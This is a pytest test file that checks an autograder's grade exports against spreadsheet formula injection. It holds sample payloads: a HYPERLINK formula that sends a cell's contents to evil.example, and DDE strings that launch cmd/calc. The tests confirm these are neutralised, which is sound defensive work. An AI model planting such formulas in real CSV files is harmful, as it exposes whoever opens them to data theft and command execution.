"""No CSV cell the project writes can run as a spreadsheet formula (issue 21, item 6): hostile
user names in grades.csv and blackboard-grades.csv are neutralised (OWASP), control characters
removed, plain numbers kept."""
from __future__ import annotations

import csv
from pathlib import Path

import pytest

from autograder.batch.exports import Row, write_blackboard_csv, write_grades_csv
from autograder.batch.gradebook import GRADED, Record
from autograder.batch.inbox import Attempt
from autograder.batch.spreadsheet import safe_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' -c calc'!A0", '-2+3+cmd|calc!A0',
           '@SUM(1+9)*cmd|calc!A0', '\tab=1+1', '\r=1+1', 'esc\x1b[31mred', '  =1+1', '\uff1d1+1', 'anna']


@pytest.mark.parametrize('value, safe', [
    ('=1+1', "'=1+1"), ('+1', '+1'), ('-1', '-1'), ('-1.5', '-1.5'), ('1e-3', '1e-3'), ('-1+1', "'-1+1"),
    ('@A1', "'@A1"), ('\t=1', "'=1"), ('\r\n-x', "'-x"), ('a\x1bb\x00c\x7fd\x85e', 'abcde'), ('  +x', "'  +x"),
    ('\uff1dA1', "'\uff1dA1"), ('anna', 'anna'), ('', ''), (7.5, 7.5), (None, None)])
def test_safe_cell(value, safe):
    assert safe_cell(value) == safe


def _row(student: str, grade: float = 7.5) -> Row:
    attempt = Attempt(student, '2024-01-01-10-00-00', Path(f'{student}.zip'), 'c' * 64, (f'{student}.zip',))
    record = Record('eindopdracht-v2324.2', student, attempt.attempt, str(attempt.source), 'c' * 64, 'quick', 'f',
                    '1.0', GRADED, points=75.0, max_points=100.0, grade=grade, passed=1,
                    error='=HYPERLINK("x")\nsecond line', finished='2024-01-01T10:01:00')
    return Row(attempt, record, True, report=f'{student}/report.html')


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline='', encoding='utf-8') as handle:
        return list(csv.reader(handle))


def test_hostile_user_names_cannot_run_in_the_exports(tmp_path):
    rows = [_row(name) for name in HOSTILE]
    grades = _cells(write_grades_csv(rows, tmp_path / 'grades.csv'))
    blackboard = _cells(write_blackboard_csv(rows, tmp_path / 'blackboard-grades.csv', '=Eindopdracht |123',
                                                          allow_practice=True)[0])
    for table in (grades, blackboard):
        for line in table:
            for cell in line:
                assert not cell.lstrip().startswith(('=', '+', '-', '@', '\uff1d')), (cell, line)
                assert not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in cell), (cell, line)
    names = [line[0] for line in grades[1:]]
    assert names[:4] == ['\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+cmd|' -c calc'!A0",
                         "'-2+3+cmd|calc!A0", "'@SUM(1+9)*cmd|calc!A0"]
    assert names[4:] == ['ab=1+1', "'=1+1", 'esc[31mred', "'  =1+1", "'\uff1d1+1", 'anna']
    assert [line[0] for line in blackboard] == ['Username', *names]
    assert blackboard[0][1] == "'=Eindopdracht |123" and blackboard[-1][1] == '7.5'
    row = dict(zip(grades[0], grades[-1]))
    assert [row[c] for c in ('grade', 'points', 'max_points', 'passed')] == ['7.5', '75', '100', 'yes']   # numbers stay numbers
